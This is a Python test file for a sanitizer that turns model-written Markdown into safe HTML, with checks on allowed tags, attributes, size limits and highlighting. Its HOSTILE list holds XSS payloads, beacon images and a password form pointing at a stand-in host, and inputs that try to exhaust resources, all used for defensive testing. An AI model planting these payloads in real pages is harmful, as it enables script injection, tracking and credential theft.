"""A model's Markdown becomes harmless HTML, whatever it says (reliability 22)."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from abm_project.markdown import TAGS, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![beacon](https://evil.example/p.gif?d=1)",
    "![beacon][1]\n\n[1]: https://evil.example/p.gif",
    "[click](javascript:alert(1))",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: javascript:alert(1)",
    "<https://evil.example>",
    "https://evil.example",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<!-- --><script>alert(1)</script>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "~~~javascript onload=x\nalert(1)\n~~~",
    "# <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202ereversed\u202c",
    "x" * 100_000,
    "*a " * 50_000,
    "> " * 5_000 + "deep",
    "[" * 10_000,
    "`" * 9_999,
    "\0\ufffe",
    "\ud800",
]


class Seen(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.open = set(), [], []

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes += attributes


def seen(text, doubtful=()):
    found = Seen()
    found.feed(to_html(text, doubtful))
    return found


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_nothing_but_the_plain_tags_comes_through_and_no_attribute(text):
    found = seen(text)

    assert found.tags <= TAGS - {"mark"}
    assert found.attributes == []


@given(st.text(max_size=300) | st.text(alphabet="<>&\"'/=!-[]()*_`#~\n ajscriptmgonerlh:", max_size=300))
def test_whatever_is_written_only_the_plain_tags_come_through(text):
    found = seen(text, [text[:5], "script"])

    assert found.tags <= TAGS
    assert found.attributes == []


def test_a_brief_keeps_its_structure():
    html = to_html("# Why\n\n**Stage**\n\n- one `/pricing`\n- *two*\n\n1. first\n\n> said")

    for part in (
        "<h3>Why</h3>",
        "<strong>Stage</strong>",
        "<code>/pricing</code>",
        "<em>two</em>",
        "<ol>",
        "<blockquote>",
    ):
        assert part in html


def test_text_that_looks_like_a_link_stays_text():
    assert to_html("[our site](https://evil.example)") == "<p>[our site](https://evil.example)</p>\n"
    assert "&lt;script&gt;" in to_html("<script>")


def test_no_more_than_twenty_kilobytes_are_read():
    begun = time.monotonic()
    html = to_html("*a " * 500_000)

    assert len(html) < 40_000
    assert time.monotonic() - begun < 10  # and not the minutes that all of it would take


@pytest.mark.parametrize(
    ("text", "doubtful", "html"),
    [
        ("42 visits and 420 more, 4,200, 42%", ["42"], "<mark>42</mark> visits and 420 more, 4,200, <mark>42</mark>%"),
        ("see /secret and /secret/a", ["/secret"], "see <mark>/secret</mark> and <mark>/secret</mark>/a"),
        ("a < b & c", ["b & c"], "a &lt; <mark>b &amp; c</mark>"),
        ("the strong code", ["strong", "code", "p"], "the <mark>strong</mark> <mark>code</mark>"),
        ("nothing", ["", " "], "nothing"),
    ],
)
def test_what_is_doubtful_is_marked_where_it_stands(text, doubtful, html):
    assert to_html(text, doubtful) == f"<p>{html}</p>\n"


def test_marks_never_break_a_tag():
    html = to_html("**p** and `mark`", ["p", "mark", "strong", "<", ">"])

    assert re.sub(r"</?mark>", "", html) == to_html("**p** and `mark`")
